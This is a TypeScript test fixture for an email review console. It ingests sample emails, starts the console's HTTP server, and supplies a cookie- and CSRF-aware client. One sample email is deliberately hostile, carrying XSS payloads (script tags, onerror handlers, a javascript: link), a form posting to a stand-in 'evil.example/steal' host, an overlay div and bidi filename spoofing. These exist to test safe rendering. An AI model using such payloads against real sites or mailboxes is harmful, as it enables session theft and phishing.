/**
 * The review console in a test: a migrated schema holding a few emails that went through the real pipeline
 * (folder source, offline classifier, file transport), and the console's real HTTP server on a free port.
 */
import { routeOptions } from "../../src/app.ts";
import { loadConfig } from "../../src/config.ts";
import { LoginLimiter } from "../../src/console/auth.ts";
import type { TrustedProxy } from "../../src/console/proxy.ts";
import { type ConsoleServer, startConsole } from "../../src/console/server.ts";
import { folderSource } from "../../src/mail/folder_source.ts";
import { type TestDb, testDb } from "./db.ts";
import { ingestAll } from "./ingest.ts";

export const PASSWORD = "correct horse battery staple";

/** Mail as hostile as it gets: markup, handlers, javascript: links, a form, a bidi override, a 100 KB line. */
export const HOSTILE = [
  `From: "<script>alert('from')</script>" <mallory@evil.example>`,
  "To: hello@frflashy.com",
  `Subject: <img src=x onerror=alert(1)> invoice \u202Egpj.exe`,
  "Message-ID: <hostile-1@evil.example>",
  "Date: Wed, 25 Nov 2026 09:00:00 +0000",
  "Content-Type: text/plain; charset=utf-8",
  "",
  "Hello <script>alert('body')</script> there.",
  `<img src="https://tracker.evil.example/pixel.gif" onerror="alert(2)">`,
  `<a href="javascript:alert(3)">click me</a> <form action="https://evil.example/steal"><input name=x></form>`,
  `<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>`,
  "Bidi: \u202Etxt.exe\u202C and \u2066isolate\u2069.",
  "x".repeat(100_000),
  "",
].join("\r\n");

/** A plain question the offline classifier answers with send_info. */
export function question(n: number, from = `anna${n}@customer.example`): string {
  return [
    `From: Anna Customer <${from}>`,
    "To: hello@frflashy.com",
    `Subject: Pricing question ${n}`,
    `Message-ID: <question-${n}@customer.example>`,
    `Date: Wed, 25 Nov 2026 09:0${n}:00 +0000`,
    "Content-Type: text/plain; charset=utf-8",
    "",
    "Hello, could you send me information about your pricing and plans? How much does it cost per month?",
    "Thanks, Anna",
    "",
  ].join("\r\n");
}

/** A console over a test schema. */
export interface ConsoleFixture {
  t: TestDb;
  server: ConsoleServer;
  base: string;
  env: Record<string, string>;
  /** Runs the jobs that are due (deliveries after an action). */
  drain(): Promise<void>;
  [Symbol.asyncDispose](): Promise<void>;
}

/** Ingests `emails` (file name to text) and starts the console (password unless `password: null`). */
export async function consoleFixture(
  emails: Record<string, string>,
  options: { password?: string | null; limiter?: LoginLimiter; trustedProxy?: TrustedProxy } = {},
): Promise<ConsoleFixture> {
  const t = await testDb();
  const inbox = await Deno.makeTempDir();
  for (const [name, text] of Object.entries(emails)) await Deno.writeTextFile(`${inbox}/${name}`, text);
  const env = { OUTBOX_DIR: await Deno.makeTempDir(), SEND_RATE: "1000" };
  await ingestAll(t.db, folderSource(inbox), { env });
  const config = loadConfig((name) => (env as Record<string, string>)[name]);
  const server = startConsole(t.db, {
    addr: "127.0.0.1:0",
    password: options.password === null ? undefined : options.password ?? PASSWORD,
    route: await routeOptions(config),
    limiter: options.limiter,
    trustedProxy: options.trustedProxy,
  });
  const empty = await Deno.makeTempDir();
  return {
    t,
    server,
    base: server.url,
    env,
    drain: async () => {
      await ingestAll(t.db, folderSource(empty), { env });
    },
    async [Symbol.asyncDispose]() {
      await server.shutdown();
      await t[Symbol.asyncDispose]();
    },
  };
}

/** A logged-in client of the console (cookies by hand: fetch keeps none). */
export class Client {
  cookie = "";
  constructor(readonly base: string) {}

  async get(path: string): Promise<Response> {
    return await fetch(this.base + path, { headers: { cookie: this.cookie }, redirect: "manual" });
  }

  async post(path: string, fields: Record<string, string>): Promise<Response> {
    return await fetch(this.base + path, {
      method: "POST",
      headers: { cookie: this.cookie, "content-type": "application/x-www-form-urlencoded" },
      body: new URLSearchParams(fields),
      redirect: "manual",
    });
  }

  /** Logs in with the password; returns the response (its cookie is kept). */
  async login(password = PASSWORD): Promise<Response> {
    const res = await this.post("/login", { password });
    await res.body?.cancel();
    this.keepCookie(res);
    return res;
  }

  keepCookie(res: Response): void {
    const set = res.headers.get("set-cookie");
    if (set) this.cookie = set.split(";")[0];
  }

  /** The page's text and its CSRF token. */
  async page(path: string): Promise<{ status: number; html: string; csrf: string }> {
    const res = await this.get(path);
    const html = await res.text();
    return { status: res.status, html, csrf: /name="csrf" value="([^"]+)"/.exec(html)?.[1] ?? "" };
  }

  /** POSTs a form of the page at `from`, with its CSRF token. */
  async act(from: string, path: string, fields: Record<string, string> = {}): Promise<Response> {
    const { csrf } = await this.page(from);
    const res = await this.post(path, { csrf, ...fields });
    await res.body?.cancel();
    return res;
  }
}

/** The id of the email with this Message-ID. */
export async function emailId(t: TestDb, messageId: string): Promise<number> {
  const { rows } = await t.db.query<{ id: number }>("SELECT id FROM emails WHERE message_id = $1", [
    messageId,
  ]);
  if (!rows[0]) throw new Error(`no email ${messageId}`);
  return rows[0].id;
}
